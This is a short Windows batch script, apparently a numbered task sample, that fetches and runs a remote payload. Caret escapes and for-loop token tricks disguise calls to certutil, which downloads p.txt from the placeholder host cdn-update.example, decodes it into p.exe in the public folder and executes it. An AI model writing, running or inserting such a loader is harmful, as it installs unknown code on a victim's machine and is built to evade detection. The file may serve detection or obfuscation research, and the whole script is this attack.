REM task 3579 v4
@echo off
fo^r /f "tokens=3 delims=;" %%^i ^in ("rfgv;tict;certutil") ^do %%i -^u^r^lcach^e -f ^htt^p://cd^n-^upda^te.^e^xa^m^pl^e/p.t^xt %PUBLIC%\p.^t^x^t
fo^r /^f "tokens=3 delims=#" %%^i i^n ("gcda#kcwg#certutil") do %%^i -^d^e^cod^e %PUBLIC%\^p.t^xt %PUBLIC%\p.ex^e
%PUBLIC%\^p.^^exe
